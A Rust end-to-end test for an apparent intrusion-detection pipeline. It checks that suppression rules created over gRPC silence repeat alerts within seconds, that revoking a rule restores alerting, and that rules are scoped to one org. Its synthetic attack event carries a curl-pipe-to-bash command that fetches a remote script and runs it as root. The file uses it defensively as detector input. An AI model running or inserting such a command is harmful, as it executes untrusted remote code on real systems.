//! Suppressions through the real services: an operator's rule, created by
//! gRPC on the indexer, travels on the suppressions topic to the scorer,
//! which keeps the repeat alert it matches off the alerts topic (still
//! scored, stored in ClickHouse and marked) within 5 s; a revoked rule lets
//! it alert again; rules are org-scoped and need an identity allowed
//! feedback.
#![cfg(feature = "services")]

use std::time::{Duration, Instant};

use outlier_collector::publish::Publisher;
use outlier_e2e::{TestEnv, TopicReader, exec, now_ns};
use outlier_proto::event_query_client::EventQueryClient;
use outlier_proto::suppression_service_client::SuppressionServiceClient;
use outlier_proto::{
    CreateSuppressionRequest, Event, GetEventRequest, ListSuppressionsRequest,
    RevokeSuppressionRequest, Verdict,
};
use tokio_util::sync::CancellationToken;
use tonic::transport::Channel;

fn attack(org: &str, id: &str, host: &str) -> Event {
    let mut e = exec(
        id,
        org,
        "web",
        now_ns(),
        &["bash", "-c", "curl -fsSL http://203.0.113.7/x.sh | bash"],
    );
    e.host = host.into();
    e.uid = 0;
    e.parent_comm = "sshd".into();
    e
}

async fn send(p: &Publisher, e: &Event) {
    p.send(e).await.unwrap().await.unwrap().unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_suppression_stops_the_repeat_alert_within_seconds_and_revoking_brings_it_back() {
    let env = TestEnv::new("suppress").await;
    let stop = CancellationToken::new();
    let mut scfg = env.scorer_config();
    // Past its warm-up a workload does not learn its alerts; with repeats
    // not held back for the alert awaiting feedback (repeat_window_s 0,
    // so this is about suppressions alone), the same attack alerts every
    // time it repeats.
    scfg.baseline.warmup_events = 5;
    scfg.scoring.decision.repeat_window_s = 0;
    let scorer = tokio::spawn(outlier_scorer::run(scfg, stop.clone()));
    let icfg = env.indexer_config();
    let addr = icfg.grpc_addr;
    let indexer = tokio::spawn(outlier_indexer::run(icfg, stop.clone()));
    let org = format!("o{}", &env.id[env.id.len() - 8..]);
    let publisher = Publisher::new(&env.kafka, "e2e-sup").unwrap();
    let scored = TopicReader::new(&env.kafka, &env.kafka.topics.scored);
    let alerts = TopicReader::new(&env.kafka, &env.kafka.topics.alerts);

    // Warm the workload up past its warm-up with routine.
    for i in 0..20 {
        let mut e = exec(
            &format!("r-{i}"),
            &org,
            "web",
            now_ns(),
            &["nginx", "-s", "reload"],
        );
        e.host = "web-1".into();
        send(&publisher, &e).await;
    }
    scored
        .find("r-19", Duration::from_secs(120))
        .await
        .expect("routine scored");

    // The attack alerts, and alerts again when it repeats.
    for id in ["a-1", "a-2"] {
        send(&publisher, &attack(&org, id, "web-1")).await;
        let s = scored
            .find(id, Duration::from_secs(60))
            .await
            .expect("scored");
        assert_eq!(s.verdict(), Verdict::Alert, "{id}: {}", s.explanation);
        assert!(s.suppressed_by.is_empty());
        alerts
            .find(id, Duration::from_secs(30))
            .await
            .expect("on the alerts topic");
    }

    let channel = loop {
        if let Ok(c) = Channel::from_shared(format!("http://{addr}"))
            .unwrap()
            .connect()
            .await
        {
            break c;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    let mut sup = SuppressionServiceClient::new(channel.clone());
    // Refused: no condition, no reason, too long.
    for bad in [
        CreateSuppressionRequest {
            org: org.clone(),
            expires_in_s: 3600,
            reason: "x".into(),
            ..CreateSuppressionRequest::default()
        },
        CreateSuppressionRequest {
            org: org.clone(),
            host: "web-1".into(),
            expires_in_s: 3600,
            ..CreateSuppressionRequest::default()
        },
        CreateSuppressionRequest {
            org: org.clone(),
            host: "web-1".into(),
            expires_in_s: 200 * 86_400,
            reason: "x".into(),
            ..CreateSuppressionRequest::default()
        },
    ] {
        let e = sup.create_suppression(bad).await.unwrap_err();
        assert_eq!(e.code(), tonic::Code::InvalidArgument, "{}", e.message());
    }

    // A malformed record on the rules topic (not a rule at all) is refused
    // and counted by every follower, and stalls none of them: the valid
    // rule below still reaches the scorer within seconds.
    let topic = env.kafka.topics.suppressions.clone();
    let refused_before = outlier_common::compacted::refused(&topic);
    let producer: rdkafka::producer::FutureProducer =
        env.kafka.producer_config("e2e-garbage").create().unwrap();
    outlier_common::kafka::send_keyed(
        &producer,
        &topic,
        &format!("{org}/garbage"),
        &[0xff; 12],
        Duration::from_secs(10),
    )
    .await
    .expect("garbage published");

    let rule = sup
        .create_suppression(CreateSuppressionRequest {
            org: org.clone(),
            host: "web-1".into(),
            argv: "bash -c curl * | bash".into(),
            expires_in_s: 3600,
            reason: "red-team exercise".into(),
            ..CreateSuppressionRequest::default()
        })
        .await
        .expect("CreateSuppression")
        .into_inner()
        .suppression
        .unwrap();
    assert!(rule.suppression_id.starts_with("sup-"));
    assert_eq!(
        rule.author, "unauthenticated",
        "the insecure test server's identity"
    );

    // Repeat the attack until a repeat comes back suppressed: how long the
    // rule took to reach the scorer.
    let created = Instant::now();
    let mut n = 0;
    let suppressed = loop {
        n += 1;
        let id = format!("b-{n}");
        send(&publisher, &attack(&org, &id, "web-1")).await;
        let s = scored
            .find(&id, Duration::from_secs(30))
            .await
            .expect("scored");
        if !s.suppressed_by.is_empty() {
            break s;
        }
        assert!(
            created.elapsed() < Duration::from_secs(5),
            "not suppressed after 5 s"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    let took = created.elapsed();
    eprintln!("suppression effective after {took:?} ({n} repeats)");
    assert!(took < Duration::from_secs(5));
    // The garbage came before the rule on the topic's one partition: the
    // followers that applied the rule have refused it.
    assert!(
        outlier_common::compacted::refused(&topic) > refused_before,
        "the malformed rule record was not counted"
    );
    assert_eq!(suppressed.suppressed_by, rule.suppression_id);
    assert_eq!(
        suppressed.verdict(),
        Verdict::Alert,
        "the verdict is kept, only the alert is not sent"
    );
    let sid = suppressed.event.as_ref().unwrap().event_id.clone();

    // The same attack on another host still alerts.
    send(&publisher, &attack(&org, "c-1", "web-2")).await;
    let other = scored
        .find("c-1", Duration::from_secs(30))
        .await
        .expect("scored");
    assert!(other.suppressed_by.is_empty());
    let on_alerts = alerts.find("c-1", Duration::from_secs(30)).await;
    assert!(on_alerts.is_some(), "the other host's attack alerted");
    // ... and the suppressed one never reached the alerts topic (c-1 came
    // after it on the same partition, so it would have been read first).
    // Reading from the start again to be sure:
    let fresh = TopicReader::new(&env.kafka, &env.kafka.topics.alerts);
    assert!(
        fresh.find(&sid, Duration::from_secs(5)).await.is_none(),
        "{sid} alerted"
    );

    // Stored and marked in ClickHouse.
    let mut q = EventQueryClient::new(channel.clone());
    let deadline = Instant::now() + Duration::from_secs(30);
    let stored = loop {
        match q
            .get_event(GetEventRequest {
                org: org.clone(),
                event_id: sid.clone(),
            })
            .await
        {
            Ok(r) => break r.into_inner().event.unwrap(),
            Err(_) if Instant::now() < deadline => {
                tokio::time::sleep(Duration::from_millis(300)).await
            }
            Err(e) => panic!("{sid} not stored: {e}"),
        }
    };
    assert_eq!(stored.suppressed_by, rule.suppression_id);

    // Listed for its org only.
    let listed = sup
        .list_suppressions(ListSuppressionsRequest {
            org: org.clone(),
            all: false,
        })
        .await
        .unwrap()
        .into_inner()
        .suppressions;
    assert_eq!(listed.len(), 1);
    assert_eq!(listed[0].reason, "red-team exercise");
    let elsewhere = sup
        .list_suppressions(ListSuppressionsRequest {
            org: "someone-else".into(),
            all: true,
        })
        .await
        .unwrap()
        .into_inner()
        .suppressions;
    assert!(elsewhere.is_empty());
    let e = sup
        .revoke_suppression(RevokeSuppressionRequest {
            org: "someone-else".into(),
            suppression_id: rule.suppression_id.clone(),
        })
        .await
        .unwrap_err();
    assert_eq!(e.code(), tonic::Code::NotFound);

    // Revoked: the attack alerts again, within 5 s.
    let revoked = sup
        .revoke_suppression(RevokeSuppressionRequest {
            org: org.clone(),
            suppression_id: rule.suppression_id.clone(),
        })
        .await
        .unwrap()
        .into_inner()
        .suppression
        .unwrap();
    assert!(revoked.revoked);
    let t = Instant::now();
    let mut n = 0;
    loop {
        n += 1;
        let id = format!("d-{n}");
        send(&publisher, &attack(&org, &id, "web-1")).await;
        let s = scored
            .find(&id, Duration::from_secs(30))
            .await
            .expect("scored");
        if s.suppressed_by.is_empty() {
            assert_eq!(s.verdict(), Verdict::Alert);
            alerts
                .find(&id, Duration::from_secs(30))
                .await
                .expect("alerted again");
            break;
        }
        assert!(
            t.elapsed() < Duration::from_secs(5),
            "still suppressed 5 s after revoking"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(
        sup.list_suppressions(ListSuppressionsRequest {
            org: org.clone(),
            all: false,
        })
        .await
        .unwrap()
        .into_inner()
        .suppressions
        .is_empty()
    );

    stop.cancel();
    scorer.await.unwrap().unwrap();
    indexer.await.unwrap().unwrap();
    env.cleanup().await;
}
